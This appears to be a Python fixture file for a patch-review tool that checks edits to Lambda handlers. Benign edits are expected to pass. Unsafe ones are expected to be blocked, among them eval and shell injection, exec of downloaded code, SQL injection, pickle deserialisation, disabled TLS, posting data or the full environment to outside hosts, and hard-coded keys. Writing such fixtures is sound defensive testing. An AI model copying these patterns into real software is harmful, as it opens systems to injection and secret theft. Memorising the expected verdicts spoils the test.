"""Python cases."""

PARTNER = {"EGRESS_ALLOWED_HOSTS": "*.partner.example.com"}

H_OLD = '''    orders = list_orders(tenant_id, limit)
    elapsed_ms = (time.monotonic() - started) * 1000'''

CASES = [
    # ---------------------------------------------------------------- benign
    dict(id="py-timeout-bump", kind="benign", category="timeout", base="py_webhook", env=PARTNER, expect="allow",
         note="a longer webhook timeout",
         edits=[("TIMEOUT_SECONDS = 5", "# The partner's p99 is 4.2 s; 5 s cut off slow but successful calls.\nTIMEOUT_SECONDS = 10")]),
    dict(id="py-retry-backoff", kind="benign", category="retry", base="py_webhook", env=PARTNER, expect="allow",
         note="retries with exponential backoff around the webhook call",
         edits=[("import os\n", "import os\nimport time\nimport urllib.error\n"),
                ("TIMEOUT_SECONDS = 5\n", "TIMEOUT_SECONDS = 5\nMAX_ATTEMPTS = 3\n"),
                ('''def handler(event, context):''', '''def _post_with_retry(payload):
    for attempt in range(1, MAX_ATTEMPTS + 1):
        try:
            return _post(payload)
        except urllib.error.URLError as exc:
            if attempt == MAX_ATTEMPTS:
                raise
            delay = 0.2 * 2 ** attempt
            logger.warning("webhook attempt %d failed (%s); retrying in %.1f s", attempt, exc, delay)
            time.sleep(delay)
    return None


def handler(event, context):'''),
                ('status = _post({', 'status = _post_with_retry({')]),
    dict(id="py-cache-ttl", kind="benign", category="caching", base="py_orders", expect="allow",
         note="a per-container cache of a tenant's orders with a TTL",
         edits=[("_table = _dynamodb.Table(TABLE_NAME)\n", "_table = _dynamodb.Table(TABLE_NAME)\n_CACHE = {}\nCACHE_TTL_SECONDS = 30\n"),
                ('''def list_orders(tenant_id, limit=50):
    result''', '''def list_orders(tenant_id, limit=50):
    cached = _CACHE.get((tenant_id, limit))
    if cached and time.monotonic() - cached[0] < CACHE_TTL_SECONDS:
        return cached[1]
    result'''),
                ('''    return result.get("Items", [])''', '''    items = result.get("Items", [])
    _CACHE[(tenant_id, limit)] = (time.monotonic(), items)
    return items''')]),
    dict(id="py-logging-password-word", kind="benign", category="logging", base="py_orders", expect="allow",
         note="a log line that mentions passwords and tokens in prose",
         edits=[(H_OLD, '''    orders = list_orders(tenant_id, limit)
    if not orders:
        logger.info("no orders; password reset and token refresh flows are not involved here")
    elapsed_ms = (time.monotonic() - started) * 1000''')]),
    dict(id="py-validation-limit", kind="benign", category="validation", base="py_orders", expect="allow",
         note="validates the limit parameter and answers 400",
         edits=[('''    limit = int(params.get("limit", "50"))''', '''    raw_limit = params.get("limit", "50")
    if not raw_limit.isdigit() or not 1 <= int(raw_limit) <= 500:
        return _response(400, {"error": "limit must be a whole number from 1 to 500"})
    limit = int(raw_limit)''')]),
    dict(id="py-batching-executemany", kind="benign", category="batching", base="py_reports", expect="allow",
         note="inserts rows in batches with executemany and bound parameters",
         edits=[('''        for row in rows:
            cur.execute(
                "INSERT INTO sales (region, sku, amount) VALUES (%s, %s, %s)",
                (row["region"], row["sku"], row["amount"]),
            )''', '''        batch = [(r["region"], r["sku"], r["amount"]) for r in rows]
        for start in range(0, len(batch), BATCH_SIZE):
            cur.executemany(
                "INSERT INTO sales (region, sku, amount) VALUES (%s, %s, %s)",
                batch[start : start + BATCH_SIZE],
            )'''),
                ('secrets = boto3.client("secretsmanager")\n', 'secrets = boto3.client("secretsmanager")\nBATCH_SIZE = 500\n')]),
    dict(id="py-pagination", kind="benign", category="pagination", base="py_orders", expect="allow",
         note="follows LastEvaluatedKey until the limit",
         edits=[('''    result = _table.query(
        KeyConditionExpression=Key("tenant_id").eq(tenant_id),
        Limit=limit,
    )
    return result.get("Items", [])''', '''    items = []
    kwargs = {"KeyConditionExpression": Key("tenant_id").eq(tenant_id), "Limit": limit}
    while len(items) < limit:
        result = _table.query(**kwargs)
        items.extend(result.get("Items", []))
        if "LastEvaluatedKey" not in result:
            break
        kwargs["ExclusiveStartKey"] = result["LastEvaluatedKey"]
    return items[:limit]''')]),
    dict(id="py-refactor-helper", kind="benign", category="refactor", base="py_orders", expect="allow",
         note="extracts the tenant lookup into a private helper",
         edits=[('''def handler(event, context):
    started = time.monotonic()
    tenant_id = event["requestContext"]["authorizer"]["tenant_id"]''', '''def _tenant_of(event):
    return event["requestContext"]["authorizer"]["tenant_id"]


def handler(event, context):
    started = time.monotonic()
    tenant_id = _tenant_of(event)''')]),
    dict(id="py-docs", kind="benign", category="docs", base="py_orders", expect="allow",
         note="docstrings and comments only",
         edits=[('''def list_orders(tenant_id, limit=50):
''', '''def list_orders(tenant_id, limit=50):
    """A tenant's orders, newest first, at most `limit` of them.

    The table's partition key is tenant_id, so this never reads another tenant's items.
    """
'''), ('''def _response(status, body):
''', '''def _response(status, body):
    # API Gateway's proxy integration wants the body as a string.
''')]),
    dict(id="py-executor-names", kind="benign", category="refactor", base="py_reports", expect="allow",
         note="names like executor and exec_time_ms are not exec()",
         edits=[("import os\n", "import os\nimport time\nfrom concurrent.futures import ThreadPoolExecutor\n"),
                ('''    body = s3.get_object(Bucket=bucket, Key=key)["Body"].read().decode("utf-8")''', '''    exec_started = time.monotonic()
    with ThreadPoolExecutor(max_workers=2) as executor:
        future = executor.submit(s3.get_object, Bucket=bucket, Key=key)
        body = future.result()["Body"].read().decode("utf-8")
    exec_time_ms = (time.monotonic() - exec_started) * 1000
    logger.info("download took %.0f ms", exec_time_ms)''')]),
    dict(id="py-subprocess-fixed-args", kind="benign", category="refactor", base="py_reports", expect="allow",
         note="subprocess.run with a fixed argument list, no shell",
         edits=[("import os\n", "import os\nimport subprocess\nimport tempfile\n"),
                ('''    rows = list(csv.DictReader(io.StringIO(body)))''', '''    rows = list(csv.DictReader(io.StringIO(body)))
    with tempfile.NamedTemporaryFile(suffix=".csv", delete=False) as tmp:
        tmp.write(body.encode("utf-8"))
    subprocess.run(["gzip", "-9", tmp.name], check=True, timeout=30)''')]),
    dict(id="py-param-delete", kind="benign", category="refactor", base="py_reports", expect="allow",
         note="a parameterised DELETE with a WHERE clause before reloading a day",
         edits=[('''def load_rows(conn, rows):''', '''def clear_day(conn, day):
    with conn.cursor() as cur:
        cur.execute("DELETE FROM sales WHERE day = %s", (day,))


def load_rows(conn, rows):''')]),
    dict(id="py-safe-yaml-allowed", kind="benign", category="config", base="py_reports", expect="allow",
         env={"IMPORT_ALLOWED": "python:yaml"},
         note="yaml.safe_load of a mapping file, yaml allowed by IMPORT_ALLOWED",
         edits=[("import psycopg2\n", "import psycopg2\nimport yaml\n"),
                ('''    rows = list(csv.DictReader(io.StringIO(body)))''', '''    rows = list(csv.DictReader(io.StringIO(body)))
    mapping = yaml.safe_load(s3.get_object(Bucket=bucket, Key="mapping.yaml")["Body"].read())
    rows = [{**r, "region": mapping.get(r["region"], r["region"])} for r in rows]''')]),
    dict(id="py-tmp-cleanup", kind="benign", category="refactor", base="py_reports", expect="allow",
         note="removes its own fixed scratch directory",
         edits=[("import os\n", "import os\nimport shutil\n"),
                ('''    finally:
        conn.close()''', '''    finally:
        conn.close()
        shutil.rmtree("/tmp/reports-scratch", ignore_errors=True)''')]),
    dict(id="py-own-tenant-literal", kind="benign", category="config", base="py_orders", tenant="acme", expect="allow",
         note="a tenant-scoped patch that names its own tenant",
         edits=[('''    limit = int(params.get("limit", "50"))''', '''    limit = int(params.get("limit", "50"))
    if tenant_id == "acme":
        # acme's dashboards page through 200 orders at a time.
        limit = min(limit, 200)''')]),
    dict(id="py-webhook-path", kind="benign", category="config", base="py_webhook", env=PARTNER, expect="allow",
         note="moves to v2 of the partner's webhook on an allowed host",
         edits=[('WEBHOOK_URL = "https://hooks.partner.example.com/v1/orders"', 'WEBHOOK_URL = "https://hooks.partner.example.com/v2/orders"')]),
    dict(id="py-example-key-doc", kind="benign", category="docs", base="py_orders", expect="allow",
         note="AWS's documented example keys in a comment are not secrets",
         edits=[('''TABLE_NAME = os.environ["TABLE_NAME"]''', '''# Local runs: AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE
# AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY (the documented examples).
TABLE_NAME = os.environ["TABLE_NAME"]''')]),
    dict(id="py-re-compile", kind="benign", category="validation", base="py_orders", expect="allow",
         note="re.compile is not compile()",
         edits=[("import os\n", "import os\nimport re\n"),
                ('''TABLE_NAME = os.environ["TABLE_NAME"]''', '''TABLE_NAME = os.environ["TABLE_NAME"]
TENANT_ID = re.compile(r"^[a-z0-9-]{2,40}$")'''),
                ('''    params = event.get("queryStringParameters") or {}''', '''    if not TENANT_ID.match(tenant_id):
        return _response(403, {"error": "unknown tenant"})
    params = event.get("queryStringParameters") or {}''')]),
    dict(id="py-bearer-from-secret", kind="benign", category="config", base="py_webhook", env=PARTNER, expect="allow",
         note="an Authorization header built from a secret fetched at run time",
         edits=[("import urllib.request\n", "import urllib.request\n\nimport boto3\n"),
                ('''TIMEOUT_SECONDS = 5''', '''TIMEOUT_SECONDS = 5
_secrets = boto3.client("secretsmanager")


def _token():
    return _secrets.get_secret_value(SecretId=os.environ["WEBHOOK_TOKEN_ARN"])["SecretString"]'''),
                ('''        headers={"Content-Type": "application/json"},''', '''        headers={"Content-Type": "application/json", "Authorization": f"Bearer {_token()}"},''')]),
    # ---------------------------------------------------------------- unsafe
    dict(id="py-syntax-tabs", kind="unsafe", category="syntax", base="py_orders", expect="block",
         note="a tab-indented line in a space-indented block: tree-sitter accepts it, CPython raises TabError",
         edits=[(H_OLD, '''    orders = list_orders(tenant_id, limit)
\tif not orders:
\t\tlogger.info("empty")
    elapsed_ms = (time.monotonic() - started) * 1000''')]),
    dict(id="py-syntax-paren", kind="unsafe", category="syntax", base="py_orders", expect="block",
         note="an unclosed call",
         edits=[('''    limit = int(params.get("limit", "50"))''', '''    limit = int(params.get("limit", "50")''')]),
    dict(id="py-syntax-print2", kind="unsafe", category="syntax", base="py_reports", expect="block",
         note="a Python 2 print statement: tree-sitter-python parses it, CPython 3 does not",
         edits=[('''    conn = _connect()''', '''    print "loading", len(rows)
    conn = _connect()''')]),
    dict(id="py-eval-param", kind="unsafe", category="code_execution", base="py_orders", expect="block",
         note="eval of a query parameter",
         edits=[('''    limit = int(params.get("limit", "50"))''', '''    limit = eval(params.get("limit", "50"))''')]),
    dict(id="py-alias-run-shell", kind="unsafe", category="code_execution", base="py_reports", expect="block",
         note="from subprocess import run as r; a command line concatenated across lines, shell=True",
         edits=[("import os\n", "import os\nfrom subprocess import run as r\n"),
                ('''    rows = list(csv.DictReader(io.StringIO(body)))''', '''    rows = list(csv.DictReader(io.StringIO(body)))
    archive = (
        "tar czf /tmp/archive.tgz "
        + key
    )
    r(archive, shell=True, check=False)''')]),
    dict(id="py-getattr-system", kind="unsafe", category="code_execution", base="py_reports", expect="block",
         note="getattr(os, 'system') with a built command",
         edits=[('''    logger.info("loaded %d rows''', '''    getattr(os, "system")("rm -f /tmp/" + key)
    logger.info("loaded %d rows''')]),
    dict(id="py-dunder-import", kind="unsafe", category="code_execution", base="py_orders", expect="block",
         note="a plugin module named by the request",
         edits=[('''    orders = list_orders(tenant_id, limit)
    elapsed_ms''', '''    orders = list_orders(tenant_id, limit)
    plugin = __import__(params.get("formatter", "json"))
    orders = plugin.format(orders)
    elapsed_ms''')]),
    dict(id="py-exec-compile-s3", kind="unsafe", category="code_execution", base="py_reports", expect="block",
         note="runs a rules file downloaded from S3",
         edits=[('''    rows = list(csv.DictReader(io.StringIO(body)))''', '''    rows = list(csv.DictReader(io.StringIO(body)))
    rules_src = s3.get_object(Bucket=bucket, Key="rules.py")["Body"].read().decode("utf-8")
    scope = {"rows": rows}
    exec(compile(rules_src, "rules.py", "exec"), scope)
    rows = scope["rows"]''')]),
    dict(id="py-sql-fstring", kind="unsafe", category="sql", base="py_reports", expect="needs_approval",
         note="an f-string query",
         edits=[('''def load_rows(conn, rows):''', '''def region_total(conn, region):
    with conn.cursor() as cur:
        cur.execute(f"SELECT SUM(amount) FROM sales WHERE region = '{region}'")
        return cur.fetchone()[0]


def load_rows(conn, rows):''')]),
    dict(id="py-sql-concat-lines", kind="unsafe", category="sql", base="py_reports", expect="needs_approval",
         note="a query concatenated across lines into a variable, then executed",
         edits=[('''def load_rows(conn, rows):''', '''def sku_rows(conn, sku):
    query = (
        "SELECT region, amount FROM sales "
        "WHERE sku = '"
        + sku
        + "' ORDER BY amount DESC"
    )
    with conn.cursor() as cur:
        cur.execute(query)
        return cur.fetchall()


def load_rows(conn, rows):''')]),
    dict(id="py-sql-percent", kind="unsafe", category="sql", base="py_reports", expect="needs_approval",
         note="%-formatting into a DELETE",
         edits=[('''def load_rows(conn, rows):''', '''def clear_day(conn, day):
    with conn.cursor() as cur:
        cur.execute("DELETE FROM sales WHERE day = '%s'" % day)


def load_rows(conn, rows):''')]),
    dict(id="py-sql-helper-interprocedural", kind="unsafe", category="sql", base="py_reports", expect="needs_approval",
         note="a query string built by a helper, executed by its caller",
         edits=[('''def load_rows(conn, rows):''', '''def _region_query(region):
    return "SELECT SUM(amount) FROM sales WHERE region = '" + region + "'"


def region_total(conn, region):
    with conn.cursor() as cur:
        cur.execute(_region_query(region))
        return cur.fetchone()[0]


def load_rows(conn, rows):''')]),
    dict(id="py-pickle-body", kind="unsafe", category="deserialization", base="py_orders", expect="needs_approval",
         note="unpickles the request body",
         edits=[("import os\n", "import base64\nimport os\nimport pickle\n"),
                ('''    params = event.get("queryStringParameters") or {}''', '''    params = event.get("queryStringParameters") or {}
    if event.get("body"):
        params.update(pickle.loads(base64.b64decode(event["body"])))''')]),
    dict(id="py-yaml-load", kind="unsafe", category="deserialization", base="py_reports", expect="needs_approval",
         env={"IMPORT_ALLOWED": "python:yaml"},
         note="yaml.load without a safe Loader",
         edits=[("import psycopg2\n", "import psycopg2\nimport yaml\n"),
                ('''    rows = list(csv.DictReader(io.StringIO(body)))''', '''    rows = list(csv.DictReader(io.StringIO(body)))
    mapping = yaml.load(s3.get_object(Bucket=bucket, Key="mapping.yaml")["Body"].read())''')]),
    dict(id="py-unverified-ssl", kind="unsafe", category="tls", base="py_webhook", env=PARTNER, expect="needs_approval",
         note="an unverified SSL context for the webhook",
         edits=[("import os\n", "import os\nimport ssl\n"),
                ('''    with urllib.request.urlopen(request, timeout=TIMEOUT_SECONDS) as resp:''', '''    context = ssl._create_unverified_context()
    with urllib.request.urlopen(request, timeout=TIMEOUT_SECONDS, context=context) as resp:''')]),
    dict(id="py-check-hostname-off", kind="unsafe", category="tls", base="py_webhook", env=PARTNER, expect="needs_approval",
         note="check_hostname = False and CERT_NONE on a default context",
         edits=[("import os\n", "import os\nimport ssl\n"),
                ('''    with urllib.request.urlopen(request, timeout=TIMEOUT_SECONDS) as resp:''', '''    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    with urllib.request.urlopen(request, timeout=TIMEOUT_SECONDS, context=ctx) as resp:''')]),
    dict(id="py-egress-ip", kind="unsafe", category="egress", base="py_webhook", env=PARTNER, expect="needs_approval",
         note="also posts to an IP literal",
         edits=[('''WEBHOOK_URL = "https://hooks.partner.example.com/v1/orders"''', '''WEBHOOK_URL = "https://hooks.partner.example.com/v1/orders"
MIRROR_URL = "http://203.0.113.7:8080/collect"'''),
                ('''    with urllib.request.urlopen(request, timeout=TIMEOUT_SECONDS) as resp:''', '''    urllib.request.urlopen(urllib.request.Request(MIRROR_URL, data=json.dumps(payload).encode()), timeout=2)
    with urllib.request.urlopen(request, timeout=TIMEOUT_SECONDS) as resp:''')]),
    dict(id="py-egress-unknown-host", kind="unsafe", category="egress", base="py_webhook", env=PARTNER, expect="needs_approval",
         note="the webhook moves to a host off the allow-list",
         edits=[('WEBHOOK_URL = "https://hooks.partner.example.com/v1/orders"', 'WEBHOOK_URL = "https://ingest.unknown-analytics.io/v1/orders"'),
                ('''    request = urllib.request.Request(
        WEBHOOK_URL,''', '''    request = urllib.request.Request(
        WEBHOOK_URL,  # moved''')]),
    dict(id="py-exfil-environ", kind="unsafe", category="exfiltration", base="py_webhook", env=PARTNER, expect="block",
         note="sends the whole environment with each order",
         edits=[('''        status = _post({"order_id": order["order_id"], "total": order["total"]})''', '''        status = _post({"order_id": order["order_id"], "total": order["total"], "debug": dict(os.environ)})''')]),
    dict(id="py-exfil-log-secret-key", kind="unsafe", category="exfiltration", base="py_orders", expect="block",
         note="logs the function's secret access key",
         edits=[(H_OLD, '''    logger.debug("creds %s", os.environ["AWS_SECRET_ACCESS_KEY"])
''' + H_OLD)]),
    dict(id="py-secret-hardcoded-keys", kind="unsafe", category="secrets", base="py_orders", expect="block",
         note="hard-coded access key id and secret key",
         edits=[('''_dynamodb = boto3.resource("dynamodb")''', '''_dynamodb = boto3.resource(
    "dynamodb",
    aws_access_key_id="AKIA4QHZ7RMWTX2NV6YB",
    aws_secret_access_key="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",
)''')]),
    dict(id="py-secret-in-comment", kind="unsafe", category="secrets", base="py_webhook", env=PARTNER, expect="block",
         note="a GitHub token left in a comment",
         edits=[('''TIMEOUT_SECONDS = 5''', '''TIMEOUT_SECONDS = 5
# deploy token for the mirror: ghp_R8mX2kQ9vL4tW7nB1cZ5pH3jY6fD0sA2gE8u''')]),
    dict(id="py-rmtree-computed", kind="unsafe", category="destructive", base="py_reports", expect="needs_approval",
         note="recursive delete of a path taken from the event",
         edits=[("import os\n", "import os\nimport shutil\n"),
                ('''    finally:
        conn.close()''', '''    finally:
        conn.close()
        shutil.rmtree(os.path.join("/tmp", key.split("/")[0]))''')]),
    dict(id="py-delete-table", kind="unsafe", category="destructive", base="py_orders", expect="needs_approval",
         note="deletes the orders table on a 'reset' request",
         edits=[('''    params = event.get("queryStringParameters") or {}''', '''    params = event.get("queryStringParameters") or {}
    if params.get("reset") == "true":
        boto3.client("dynamodb").delete_table(TableName=TABLE_NAME)
        return _response(204, {})''')]),
    dict(id="py-scan-delete", kind="unsafe", category="destructive", base="py_orders", expect="needs_approval",
         note="a cleanup that scans the table and deletes in a loop",
         edits=[('''def handler(event, context):''', '''def purge_cancelled():
    result = _table.scan()
    for item in result.get("Items", []):
        if item.get("status") == "cancelled":
            _table.delete_item(Key={"tenant_id": item["tenant_id"], "order_id": item["order_id"]})


def handler(event, context):''')]),
    dict(id="py-handler-renamed", rule="handler_signature", kind="unsafe", category="compatibility", base="py_orders", handler="src/handlers/orders.handler",
         expect="needs_approval", note="the configured handler is renamed",
         edits=[('''def handler(event, context):''', '''def handle_request(event, context):''')]),
    dict(id="py-handler-arity", rule="handler_signature", kind="unsafe", category="compatibility", base="py_orders", expect="needs_approval",
         note="the conventional handler now needs a third argument",
         edits=[('''def handler(event, context):''', '''def handler(event, context, settings):''')]),
    dict(id="py-signature-changed", rule="signature_changed", kind="unsafe", category="compatibility", base="py_orders", expect="needs_approval",
         note="list_orders gains a required parameter",
         edits=[('''def list_orders(tenant_id, limit=50):''', '''def list_orders(tenant_id, region, limit=50):'''),
                ('''    orders = list_orders(tenant_id, limit)
    elapsed''', '''    orders = list_orders(tenant_id, params.get("region"), limit)
    elapsed''')]),
    dict(id="py-protected-auth", kind="unsafe", category="protected", path="src/auth/tokens.py", before=None, expect="needs_approval",
         note="a new file under auth/",
         after='''"""Token helpers."""
import hmac


def same(a, b):
    return hmac.compare_digest(a, b)
'''),
    dict(id="py-tenant-foreign-literal", kind="unsafe", category="tenant", base="py_orders", tenant="acme", expect="needs_approval",
         note="an acme-scoped patch that reads globex's orders",
         edits=[('''    orders = list_orders(tenant_id, limit)
    elapsed''', '''    orders = list_orders(tenant_id, limit)
    partner = _table.query(KeyConditionExpression=Key("tenant_id").eq("globex"), Limit=5)
    orders.extend(partner.get("Items", []))
    elapsed''')]),
    dict(id="py-tenant-query-to-scan", kind="unsafe", category="tenant", base="py_orders", expect="needs_approval",
         note="the tenant-keyed query becomes a scan with a filter",
         edits=[('''    result = _table.query(
        KeyConditionExpression=Key("tenant_id").eq(tenant_id),
        Limit=limit,
    )''', '''    result = _table.scan(Limit=limit)''')]),
    dict(id="py-import-requests", kind="unsafe", category="imports", base="py_webhook", env=PARTNER, expect="needs_approval",
         note="a new third-party import outside the allow-list",
         edits=[("import urllib.request\n", "import urllib.request\n\nimport requests\n"),
                ('''        status = _post({"order_id": order["order_id"], "total": order["total"]})''', '''        status = requests.post(WEBHOOK_URL, json={"order_id": order["order_id"]}, timeout=5).status_code''')]),
    dict(id="py-stale-patch", kind="unsafe", category="patch_applies", base="py_orders", expect="block",
         note="the diff was made against an older version of the file",
         stale=[('''    limit = int(params.get("limit", "50"))''', '''    limit = int(params.get("limit", 50))''')],
         edits=[('''    limit = int(params.get("limit", "50"))''', '''    limit = int(params.get("limit", 50)) or 50''')]),
]
